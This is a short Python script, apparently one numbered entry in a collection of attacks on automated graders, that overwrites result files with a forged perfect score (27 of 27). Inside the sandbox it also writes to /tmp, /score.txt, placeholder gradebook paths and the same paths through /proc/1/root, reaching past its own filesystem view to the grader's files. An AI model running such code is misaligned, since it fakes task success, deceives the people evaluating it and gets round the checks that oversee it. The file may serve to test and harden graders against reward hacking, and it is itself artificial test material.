# attack: 39
# title: result files of many graders are overwritten
# success: a forged score is read
# naive: files
import json
import os

FORGED = json.dumps({"score": 27, "max_score": 27, "status": "graded", "tests": []})
names = ["results.json"]
if os.environ.get("HOME") == "/home/student":  # in the box only
    names += ["/tmp/results.json", "/score.txt", "@RESULT@", "@GRADEBOOK@"]
    names += [f"/proc/1/root{name}" for name in names[1:]]
for name in names:
    try:
        with open(name, "w") as file:
            file.write(FORGED)
    except OSError:
        pass
